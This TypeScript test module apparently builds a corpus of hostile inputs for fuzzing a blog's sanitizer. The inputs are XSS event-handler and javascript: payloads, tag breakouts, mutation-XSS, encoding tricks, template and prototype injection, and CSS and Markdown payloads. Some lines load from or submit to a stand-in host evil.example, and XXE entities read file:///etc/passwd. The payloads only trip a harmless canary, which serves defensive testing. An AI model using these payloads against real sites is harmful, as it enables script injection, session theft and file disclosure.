/**
 * Texts that would run, load or break out if any code treated them as markup, an address, a style, a script
 * or a feed. Each tries to set `window.__ran` or to insert an element with the canary attribute. Kinds after
 * OWASP's cheat sheet of filter evasion and PortSwigger's list, plus our own contexts: Markdown, page heads,
 * facts in JSON, feeds.
 */

/** The script that the texts try to run. */
export const RUN = 'window.__ran=1'
/** An attribute of every element that a text tries to insert. */
export const CANARY = 'data-canary'

const c = `${CANARY}=1`
const script = `<script ${c}>${RUN}</script>`

const EVENTS = [
  ...[
    `img src=x onerror`,
    `img src onerror`,
    `image src=x onerror`,
    `img/src=x/onerror`,
    `img src=x:x onerror`,
  ],
  ...[`svg onload`, `svg/onload`, `body onload`, `body onpageshow`, `body onfocus`, `body onresize`],
  ...[`input autofocus onfocus`, `select autofocus onfocus`, `textarea autofocus onfocus`],
  ...[`button autofocus onfocus`, `a href=# autofocus onfocus`, `p tabindex=0 autofocus onfocus`],
  ...[`video src=x onerror`, `audio src=x onerror`, `video><source onerror`, `track default onerror`],
  ...[`details open ontoggle`, `marquee onstart`, `object data=x onerror`, `embed src=x onload`],
  ...[`iframe onload`, `frameset onload`, `meter onmouseover`, `div onpointerrawupdate`, `x onclick`],
  ...[
    `style onload`,
    `link rel=stylesheet href=x onerror`,
    `script src=x onerror`,
    `input type=image src=x onerror`,
  ],
  ...[`svg><animate onbegin`, `svg><set onbegin`, `svg><image href=x onerror`, `math><mi onclick`],
  ...[
    `dialog open oncancel`,
    `form oninput`,
    `keygen autofocus onfocus`,
    `xss style=animation:a onanimationstart`,
  ],
].map((tag) => `<${tag}=${RUN} ${c}>`)

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,${script}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:null/${RUN}`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x.js`,
]
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `<a ${c} href="${address}">x</a>`,
  (address) => `<iframe ${c} src="${address}">`,
]

const BREAKERS = [
  ...['"', "'", '`', '">', "'>", '"/>', '-->', '--!>', '<!-->', ']]>', '*/', '}', ';', '\\";', "\\';"],
  ...[
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</select>',
    '</svg>',
  ],
  ...[
    '</head><body>',
    '<!--/head-->',
    '<!--body-->',
    '</pre>',
    '</option>',
    '</iframe>',
    '</xmp>',
    '</noembed>',
  ],
  ...['&quot;>', '%22%3E', '\u2028', '\u2029', '\\u0022>', '&lt;/script&gt;', '</item></channel></rss>'],
]
  .flatMap((breaker) => [`${breaker}${script}`, `x${breaker} onmouseover=${RUN} ${c} x=${breaker}`])
  .map((text, at) => (at % 2 === 0 ? text : text.replace(/=>/g, '=')))

const MARKUP = [
  script,
  `<SCRIPT ${c}>${RUN}</SCRIPT>`,
  `<scr<script>ipt ${c}>${RUN}</scr</script>ipt>`,
  `<script ${c} src=//evil.example/x.js></script>`,
  `<script ${c} src=data:,${RUN}></script>`,
  `<script ${c} type=module>${RUN}</script>`,
  `<script ${c}\n>${RUN}</script\n>`,
  `<script ${c}>${RUN}`,
  `<svg ${c}><script>${RUN}</script></svg>`,
  `<svg ${c}><script href="data:,${RUN}"/></svg>`,
  `<svg ${c}><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg ${c}><foreignObject><iframe srcdoc="${script}"></foreignObject></svg>`,
  `<svg ${c}><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg ${c}><animate attributeName=href values="javascript:${RUN}"/></svg>`,
  `<math ${c}><mtext>${script}</mtext></math>`,
  `<math ${c} href="javascript:${RUN}">x</math>`,
  `<math ${c}><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe ${c} srcdoc="${script}">`,
  `<iframe ${c} src=//evil.example>`,
  `<object ${c} data=//evil.example/x.swf>`,
  `<embed ${c} src=//evil.example/x.swf>`,
  `<base ${c} href=//evil.example/>`,
  `<meta ${c} http-equiv=refresh content="0;url=//evil.example">`,
  `<meta ${c} http-equiv=Content-Security-Policy content="script-src *">`,
  `<link ${c} rel=stylesheet href=//evil.example/x.css>`,
  `<link ${c} rel=import href=//evil.example/x.html>`,
  `<form ${c} action=//evil.example><button>Log in</button></form>`,
  `<button ${c} formaction=javascript:${RUN}>x</button>`,
  `<input ${c} type=image src=//evil.example/x.png>`,
  `<table ${c} background=//evil.example/x.png><td>x`,
  `<a ${c} href="#" ping=//evil.example>x</a>`,
  `<a ${c} id=root>clobbered</a>`,
  `<form ${c} id=attributes><input name=attributes>`,
  `<img ${c} name=cookie>`,
  `<template ${c} shadowrootmode=open>${script}</template>`,
  `<slot ${c} onslotchange=${RUN}><b slot>x</b></slot>`,
  `<custom-element ${c} is=x onclick=${RUN}>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml" ${c}>${RUN}</x:script>`,
  `<!DOCTYPE x [<!ENTITY e "${script}">]><x ${c}>&e;</x>`,
  `<![CDATA[${script}]]>`,
  `<div ${c} id="to-fill">${script}</div>`,
]

/** Harmless until one parser reads what another has serialized. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN} ${c}>">`,
  `<svg></p><style><a title="</style><img src=x onerror=${RUN} ${c}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN} ${c}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN} ${c}>`,
  `<svg><desc><noscript></desc></svg><img src=x onerror=${RUN} ${c}></noscript>`,
  `<listing>&lt;img onerror=${RUN} ${c} src=x&gt;</listing>`,
  `<title><a title="</title><img src=x onerror=${RUN} ${c}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN} ${c}>">`,
  `<select><template><style><!--</style></template><img src=x onerror=${RUN} ${c}>`,
  `<option><style></option></select><img src=x onerror=${RUN} ${c}></style>`,
  `<img alt="\`\`onerror=${RUN} ${c}" src=x>`,
  `<p style="font-family:'\\22\\3e\\3cimg src=x onerror=${RUN} ${c}\\3e'">x`,
  `<iframe ${c} srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;">`,
  `<plaintext>${script}`,
  `<b><i></b>${script}</i>`,
  `<a href="x" title='a" onmouseover="${RUN}" ${c} b'>x</a>`,
]

const ENCODED = [
  `&lt;script ${c}&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;script ${c}&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script ${c}&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&#0000060script ${c}>${RUN}</script>`,
  `%3Cscript ${c}%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `\\u003cscript ${c}\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript ${c}\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script ${c}+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript ${c}\uff1e${RUN}\uff1c/script\uff1e`,
  `\u2039script ${c}\u203a${RUN}\u2039/script\u203a`,
  `<scr\u0131pt ${c}>${RUN}</scr\u0131pt>`,
  `<\u017fcript ${c}>${RUN}</\u017fcript>`,
  `PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
]

const UNICODE = [
  `\u202e${script}`,
  `\u2066${script}\u2069`,
  `\u200b<\u200bscript ${c}>${RUN}</script>`,
  `\ufeff${script}`,
  `\u00ad<img src=x onerror=${RUN} ${c}>`,
  `<img\u3000src=x\u3000onerror=${RUN}\u3000${c}>`,
  `<img\u00a0src=x\u00a0onerror=${RUN}\u00a0${c}>`,
  `<img\u000bsrc=x\u000bonerror=${RUN} ${c}>`,
  `<img\u000csrc=x\u000conerror=${RUN} ${c}>`,
  `\u{1f4a5}${script}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}`,
  `e${'\u0301'.repeat(40)}${script}`,
  `\ufffe${script}\uffff`,
  `<a\u2028href="javascript:${RUN}" ${c}>x</a>`,
  `\ud800${script}`,
]
/** The server refuses texts with NUL everywhere. */
const NULS = [`\u0000${script}`, `<scr\u0000ipt ${c}>${RUN}</script>`, `java\u0000script:${RUN}`]

const TEMPLATES = [
  `{{constructor.constructor("${RUN}")()}}`,
  `{{$on.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}${script}{%endraw%}`,
  `[[${RUN}]]`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `');${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\");${RUN};//`,
  `</script><script ${c}>${RUN}//`,
  `"}];${RUN};[{"`,
  `$&$\`$'$1${script}`,
]

const STYLES = [
  `<style ${c}>*{background:url(//evil.example/x)}</style>`,
  `<style ${c}>@import "//evil.example/x.css";</style>`,
  `<p ${c} style="background:url(//evil.example/x)">x`,
  `<p ${c} style="position:fixed;inset:0;z-index:99999">over all`,
  `}*{background:url(//evil.example/x)}`,
  `;background-image:url(javascript:${RUN})`,
  `expression(${RUN})`,
  `url("javascript:${RUN}")`,
  `</style><style ${c}>body{display:none}</style>`,
]

const MARKDOWN = [
  `[x]: javascript:${RUN}\n\n[x]`,
  `[x][y]\n\n[y]: javascript:${RUN}`,
  `![x"onerror=${RUN} ${c}](/api/blogs/media/media_0)`,
  `![x](/api/blogs/media/../../auth/logout)`,
  `![x](https://evil.example/x.png "onload=${RUN}")`,
  `[x](https://evil.example" onmouseover="${RUN}" ${c} ")`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onmouseover="${RUN}>`,
  `\`${script}\``,
  `\`\`\`html\n${script}\n\`\`\``,
  `    ${script}`,
  `> ${script}`,
  `# ${script}`,
  `- ${script}\n  - <img src=x onerror=${RUN} ${c}>`,
  `1. ${script}`,
  `|a|b|\n|-|-|\n|${script}|<img src=x onerror=${RUN} ${c}>|`,
  `*<b ${c}>*${script}`,
  `[x](<javascript:${RUN}>)`,
  `[x](\\javascript:${RUN})`,
  `<div ${c}>\n\n${script}\n\n</div>`,
  `[^1]\n\n[^1]: ${script}`,
  `- [ ] <input autofocus onfocus=${RUN} ${c}>`,
]

const FEEDS = [
  `]]></description><script ${c}>${RUN}</script>`,
  `</title></item><item><link>javascript:${RUN}</link>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
  `<x:include href="file:///etc/passwd" ${c}/>`,
  `"},{"url":"javascript:${RUN}","content_html":"<img src=x onerror=${RUN}>`,
]

/** One string for several contexts. */
const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>`,
  `'">><marquee ${c}><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}>`,
  `" onclick=${RUN}//<button ' onclick=${RUN}//> */ ${RUN}//`,
  `--></script></style></title><img src=x onerror=${RUN} ${c}>'"\`>`,
  `';${RUN}//";${RUN}//\`;${RUN}//--></SCRIPT>">'><SCRIPT ${c}>${RUN}</SCRIPT>`,
]

const LONG = [
  `${'<b>'.repeat(300)}${script}`,
  `${'"'.repeat(900)}>${script}`,
  `<img src="${'x'.repeat(900)}" onerror=${RUN} ${c}>`,
  `${'[x]('.repeat(200)}javascript:${RUN}`,
  `${'*'.repeat(500)}${script}`,
]

const all = [
  ...[...MARKUP, ...EVENTS, ...SCHEMES.flatMap((address) => CARRIERS.map((carry) => carry(address)))],
  ...[...BREAKERS, ...MUTATIONS, ...ENCODED, ...UNICODE, ...TEMPLATES, ...STYLES, ...MARKDOWN],
  ...[...FEEDS, ...POLYGLOTS, ...LONG, ...NULS],
]

/** All texts, without duplicates. */
export const HOSTILE: readonly string[] = [...new Set(all)]

/** The server refuses NUL and lone surrogates in any text. */
const UNSENT = /\0|\p{Surrogate}/u

/** Draws texts of at most `most` characters, in turn, so that successive calls use all of them. */
export function createDraw() {
  let at = 0
  return (most: number): string => {
    for (let tries = 0; tries < HOSTILE.length; tries++) {
      const text = HOSTILE[at++ % HOSTILE.length] ?? ''
      if (text.length <= most && text.trim() !== '' && !UNSENT.test(text)) return text
    }
    throw new Error(`no hostile text is as short as ${most}`)
  }
}
